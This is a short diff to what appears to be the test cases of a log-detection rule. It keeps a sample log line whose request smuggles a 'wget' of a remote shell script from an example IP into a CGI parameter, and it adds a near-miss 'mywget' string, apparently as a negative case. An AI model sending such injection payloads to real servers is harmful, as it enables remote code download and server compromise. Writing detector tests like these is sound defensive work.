@@ -82,5 +82,6 @@ export default defineRule({
       message:
         'upstream timed out, request: "GET /cgi-bin/test.cgi?x=;wget%20http://203.0.113.9/a.sh HTTP/1.1"',
     },
+    { request: 'GET / HTTP/1.1', user: 'mywget http:/203.0.113.9/a.sh' },
   ],
 })
